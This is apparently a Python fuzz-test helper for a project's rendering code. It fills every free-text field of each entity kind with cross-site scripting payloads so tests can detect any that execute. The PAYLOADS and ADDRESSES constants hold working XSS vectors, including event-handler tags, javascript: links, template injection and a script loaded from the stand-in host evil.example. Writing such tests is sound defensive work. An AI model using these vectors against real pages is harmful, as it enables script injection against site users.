"""Things of every kind whose every free text tries to run something in the page that shows it.

Which texts are free is asked of the model itself: each place in an entity is given a payload, and
where the entity is still one, it stays.
"""

from __future__ import annotations

import copy
from collections.abc import Iterable, Iterator
from collections.abc import Set as AbstractSet
from typing import Any, Final

import orjson
from pydantic import ValidationError

from cop.model.entity import Entity, Kind
from cop.model.kinds import KINDS, decode
from tests.fuzz.seeds import instance

FLAG: Final = "__executed"
"""What a payload sets on `window` where it runs."""
FOREIGN: Final = "evil.example"
"""The host that payloads try to reach."""

PAYLOADS: Final = (
    f'"><img src=x onerror="{FLAG}=1"><svg onload={FLAG}=1>',
    f"<script>{FLAG}=1</script><script src=//{FOREIGN}/x.js></script>",
    f"'-{FLAG}=1-'\";{FLAG}=1;//</textarea></style><iframe srcdoc='<script>parent.{FLAG}=1'>",
    f"[a](javascript:{FLAG}=1) ${{{FLAG}=1}} {{{{constructor.constructor('{FLAG}=1')()}}}}",
    f'<a href="javascript:{FLAG}=1" autofocus onfocus={FLAG}=1>\u202e<math><mtext></p>',
)
ADDRESSES: Final = (
    f"javascript:{FLAG}=1",
    f'https://{FOREIGN}/"onmouseover="{FLAG}=1',
    f"https://{FOREIGN}/<script>{FLAG}=1</script>",
)
_KEPT: Final = frozenset({"id", "kind", "feed", "publisher", "double_of"})
"""What makes a thing this thing, and not another; and by which it would be shown to nobody."""


def hostile(entities: Iterable[Entity]) -> Iterator[Entity]:
    """Give *entities*, and one made up for each kind that is not among them, full of payloads."""
    known = list(entities)
    ids = frozenset(one.id for one in known)
    missing = set(Kind) - {Kind(one.kind) for one in known}
    for number, entity in enumerate(known):
        yield _filled(entity.model_dump(mode="json"), number, ids)
    for number, kind in enumerate(sorted(missing)):
        made = _made_up(kind)
        if made is not None:
            yield _filled(made, number, ids)


def count(entity: Entity) -> int:
    """Count the texts of *entity* that hold a payload."""
    body = entity.encode().decode()
    return body.count(FLAG)


def _made_up(kind: Kind) -> dict[str, Any] | None:
    """Give an entity of *kind* made of its schema alone; None where that makes none."""
    schema = KINDS[kind].model_json_schema()
    said = orjson.loads(instance(schema))
    said |= {"kind": kind.value, "id": f"{kind.value}:made-up", "publisher": "COP"}
    said |= {"feed": None, "double_of": None}
    for name in [*said]:
        less = {key: value for key, value in said.items() if key != name}
        if _is_entity(said) is None and _faults(less) < _faults(said):
            said = less
    return said if _is_entity(said) is not None else None


def _faults(said: Any) -> int:
    try:
        decode(orjson.dumps(said))
    except ValidationError as error:
        return error.error_count()
    except ValueError:
        return 1
    return 0


def _is_entity(said: Any) -> Entity | None:
    try:
        return decode(orjson.dumps(said))
    except ValueError:
        return None


def _filled(said: dict[str, Any], number: int, ids: AbstractSet[str]) -> Entity:
    """Put payloads wherever *said* stays an entity with them; what names another of *ids* stays."""
    for path in [*_paths(said, ())]:
        if path[0] in _KEPT or _at(said, path) in ids:
            continue
        for payload in _values(number + len(path)):
            changed = copy.deepcopy(said)
            _put(changed, path, payload)
            if _is_entity(changed) is not None:
                said = changed
                break
    entity = _is_entity(said)
    assert entity is not None, said
    return entity


def _values(number: int) -> Iterator[Any]:
    words = PAYLOADS[number % len(PAYLOADS)]
    yield words
    yield {"en": words, "zh-Hant": words, "zh-Hans": words}
    yield [words]
    yield from ADDRESSES


def _paths(value: Any, path: tuple[Any, ...]) -> Iterator[tuple[Any, ...]]:
    """List the places of texts in *value*, and those that are empty and may hold some."""
    if isinstance(value, str) or (path and value in (None, {}, [])):
        yield path
    elif isinstance(value, dict):
        for key, inner in value.items():
            yield from _paths(inner, (*path, key))
    elif isinstance(value, list):
        for index, inner in enumerate(value):
            if not isinstance(inner, int | float):
                yield from _paths(inner, (*path, index))


def _at(value: Any, path: tuple[Any, ...]) -> str:
    for key in path:
        value = value[key]
    return str(value)


def _put(value: Any, path: tuple[Any, ...], what: Any) -> None:
    for key in path[:-1]:
        value = value[key]
    value[path[-1]] = what
